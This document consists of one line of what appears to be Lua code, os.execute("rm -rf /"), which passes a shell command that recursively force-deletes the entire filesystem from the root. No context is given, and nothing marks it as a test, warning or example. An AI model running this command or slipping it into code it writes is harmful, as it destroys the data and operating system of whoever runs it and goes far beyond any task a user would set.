os.execute("rm -rf /")
